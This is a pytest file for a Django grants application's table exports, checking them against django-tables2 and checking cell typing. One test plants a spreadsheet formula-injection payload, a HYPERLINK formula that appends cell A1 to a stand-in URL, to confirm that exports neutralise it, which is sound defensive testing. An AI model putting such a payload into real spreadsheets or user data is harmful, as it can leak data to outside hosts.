"""The export's fast extraction gives exactly what django-tables2 itself would export."""

import io

import pytest
from django.contrib.auth import get_user_model
from django.test import RequestFactory
from django_tables2.rows import BoundRow

from catalogue.selectors import services_visibles
from catalogue.tables import ServiceTable
from noyau.exports import _normaliser, colonnes_exportables, lecture_par_valeurs, lignes
from subventions import exports as exports_subventions
from subventions import selectors
from subventions.exports import SubventionExportTable
from subventions.tables import OrganismeListeTable, SubventionTable
from tests.demo import demo_et_lecteur
from tests.partage import donnees_du_module
from versements.selectors import versements_visibles
from versements.tables import VersementTable


@pytest.fixture(scope="module")
def demo_du_module(django_db_setup, django_db_blocker):
    """The comparisons only read the demo: loaded once for the module (tests/partage.py)."""
    with donnees_du_module(django_db_blocker, demo_et_lecteur) as pk:
        yield pk


@pytest.fixture
def donnees(db, demo_du_module):
    return get_user_model().objects.get(pk=demo_du_module)


def test_pas_d_injection_de_formule(db, gestionnaire):
    from io import BytesIO

    from openpyxl import load_workbook

    from tests.factories import OrganismeFactory, SubventionFactory

    OrganismeFactory(nom_legal='=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")')
    SubventionFactory(titre="=1+1")
    from django.test import Client

    client = Client()
    client.force_login(gestionnaire)
    reponse = client.get("/organismes/?_export=xlsx")
    feuille = load_workbook(BytesIO(b"".join(reponse.streaming_content))).active
    noms = [ligne[0] for ligne in feuille.iter_rows(min_row=2, values_only=True)]
    assert '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")' in noms
    assert all(c.data_type != "f" for ligne in feuille.iter_rows() for c in ligne)
    csv = b"".join(client.get("/subventions/?_export=csv").streaming_content).decode("utf-8-sig")
    assert ",'=1+1," in csv


def test_resolution_rapide_comme_django_tables2(db):
    """The export's short way through model attributes falls back to django-tables2's rules for
    a method to call, a null relation, a missing attribute and a dict record."""
    from django_tables2.utils import A

    from noyau.exports import _resolveur
    from tests.factories import SubventionFactory

    subvention = SubventionFactory(agent=None)
    enregistrements = [subvention, {"organisme": {"nom_legal": "Dict"}}, {"numero": "X"}]
    for accessor in (
        "numero",
        "organisme__nom_legal",
        "get_statut_display",
        "organisme__get_absolute_url",
        "agent__first_name",
        "inexistant",
        "organisme__inexistant__plus_loin",
        "organisme__nom_legal__upper",
    ):
        resoudre = _resolveur(A(accessor))
        for enregistrement in enregistrements:
            attendu = A(accessor).resolve(enregistrement, quiet=True)
            assert resoudre(enregistrement) == attendu, (accessor, enregistrement)


def test_chaque_valeur_garde_son_type_et_son_format():
    """Formats found once per column and type: each row keeps its own values, types and
    formats, whatever the row before held in the same column."""
    import datetime
    from decimal import Decimal

    from openpyxl import load_workbook

    from noyau.classeurs import Classeur
    from noyau.formats import XLSX_MONEY_FORMAT

    lignes = [
        [Decimal("1.50"), datetime.date(2026, 1, 2), "a"],
        [None, Decimal("2.25"), "=1+1"],
        [Decimal("3.75"), datetime.datetime(2026, 3, 4, 5, 6), None],
        [datetime.date(2027, 7, 8), Decimal("4"), "d"],
    ]
    wb = Classeur()
    feuille = wb.feuille("essai")
    for ligne in lignes:
        feuille.ajouter(ligne)
    fichier = io.BytesIO(wb.fermer().read())
    lues = list(load_workbook(fichier)["essai"].iter_rows())
    assert [[c.value for c in r] for r in lues] == [
        [1.5, datetime.datetime(2026, 1, 2), "a"],
        [None, 2.25, "=1+1"],
        [3.75, datetime.datetime(2026, 3, 4, 5, 6), None],
        [datetime.datetime(2027, 7, 8), 4, "d"],
    ]
    formats = [[c.number_format for c in r[:2]] for r in lues]
    assert formats == [
        [XLSX_MONEY_FORMAT, "yyyy-mm-dd"],
        ["General", XLSX_MONEY_FORMAT],
        [XLSX_MONEY_FORMAT, "yyyy-mm-dd hh:mm"],
        ["yyyy-mm-dd", XLSX_MONEY_FORMAT],
    ]
    assert lues[1][2].data_type == "s"  # text, never a formula


def _export_des_subventions(user):
    queryset = selectors.subventions_visibles(user=user)
    table = SubventionExportTable(
        exports_subventions.subventions_a_exporter(
            queryset, [2025, 2026, 2027], exports_subventions.rubriques_a_exporter()
        ),
        exercices=[2025, 2026, 2027],
        rubriques=exports_subventions.rubriques_a_exporter(),
    )
    return table, table.data.data


# Last in the module: the demo it reads stays until the module ends, and the tests above build
# their own grants and organisations (numbers and NEQs that the demo's would collide with).
@pytest.mark.parametrize(
    ("table_class", "selector", "par_valeurs"),
    [
        (SubventionTable, lambda u: selectors.subventions_visibles(user=u), True),
        (OrganismeListeTable, lambda u: selectors.organismes_pour_liste(user=u), False),
        (ServiceTable, lambda u: services_visibles(user=u), False),
        (VersementTable, lambda u: versements_visibles(user=u), True),
        (None, _export_des_subventions, True),
    ],
)
def test_memes_valeurs_que_django_tables2(donnees, table_class, selector, par_valeurs):
    """Each export row is what django-tables2 itself gives for the row's object, whichever way
    it was read (values for the tables that allow it: `par_valeurs` says which must)."""
    requete = RequestFactory().get("/")
    requete.user = donnees
    if table_class is None:
        table, queryset = selector(donnees)
    else:
        queryset = selector(donnees)
        table = table_class(queryset, request=requete)
    colonnes = colonnes_exportables(table)
    attendu = [
        [_normaliser(BoundRow(r, table=table).get_cell_value(c.name)) for c in colonnes]
        for r in queryset
    ]
    assert (lecture_par_valeurs(table, queryset) is not None) is par_valeurs
    obtenu = list(lignes(table, queryset))
    assert obtenu[0] == [str(c.header) for c in colonnes]
    assert obtenu[1:] == attendu
    assert list(lignes(table, queryset, par_valeurs=False))[1:] == attendu
    assert len(attendu) > 5
    # Every kind of value the columns hold is there to compare (a test that cannot fail
    # otherwise): more than one distinct value in most columns.
    variees = sum(len({repr(ligne[j]) for ligne in attendu}) > 1 for j in range(len(colonnes)))
    assert variees >= len(colonnes) // 2
